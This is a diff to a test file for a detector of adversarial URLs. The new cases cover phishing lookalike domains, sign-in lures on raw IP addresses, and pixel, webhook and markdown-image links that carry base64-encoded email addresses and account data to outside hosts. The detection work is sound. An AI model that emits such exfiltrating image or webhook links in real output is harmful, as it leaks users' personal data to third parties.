@@ -44,6 +44,34 @@ describe('links carried in records', () => {
     'https://www.example.com/in/en/careers',
   ])('%s in a cell is not', (url) => expect(urlCodes(`id,remark\n7,"Profile and portfolio: ${url}"`)).toEqual([]));
 
+  it.each([
+    'https://smartsheet-admins-forum.org/threads/automations',
+    'https://www.hubspot-summit.eu/agenda/day-1',
+    'https://airtable-connector-guide.readthedocs.io/en/latest/setup.html',
+    'https://freshdesk-api-recipes.gitbook.io/recipes/tickets',
+  ])('%s, a product community named after it, is not', (url) => expect(urlCodes(`name,url\nLink,${url}`)).toEqual([]));
+
+  it.each(['https://smartsheet-community-signin.org/threads/automations', 'https://freshdesk-gdansk.com/support/tickets'])(
+    "%s, a lure's word or a firm joined to the name, stays adversarial",
+    (url) => expect(urlCodes(`name,url\nLink,${url}`)).not.toEqual([]),
+  );
+
+  it('leaves a table a team box exports on a public address, reads one offered as a sign-in', () => {
+    expect(urlCodes('Extract done. Download: http://34.90.12.7/out/visits_w20.csv (the BI VM on Azure).')).toEqual([]);
+    expect(urlCodes('Prosím přihlaste se zde: http://34.90.12.7/out/vyplata.xlsx')).not.toEqual([]);
+    expect(urlCodes('Download: http://34.90.12.7/out/visits_w20.zip')).not.toEqual([]);
+  });
+
+  it('leaves an open pixel naming its one recipient in base64, reads one packing a row', () => {
+    const one = Buffer.from('maren.ost@fjordline.example').toString('base64');
+    const row = Buffer.from('maren.ost@fjordline.example;balance=4410').toString('base64');
+    expect(urlCodes(`<img src="https://mail.sender.example/o.gif?r=${one}" width="1" height="1">`)).toEqual([]);
+    expect(urlCodes(`<img src="https://px-cdn.example/o.gif?r=${row}" width="1" height="1">`)).not.toEqual([]);
+    expect(urlCodes(`posted https://webhook.site/3f2a?r=${one}`)).not.toEqual([]);
+    expect(urlCodes(`To: maren.ost@fjordline.example\n\n<img src="https://cdn.sender.example/o.gif?r=${one}">`)).toEqual([]);
+    expect(urlCodes(`Visit notes\nFeedback: ![r](https://px.relay.example/5.png?u=${one})`)).not.toEqual([]);
+  });
+
   it('leaves a firm desk naming its page of the service', () =>
     expect(urlCodes('From: IT Desk <desk@calloway.example>\n\nCalls now go through https://zoom-signin.calloway.example/login')).toEqual(
       [],
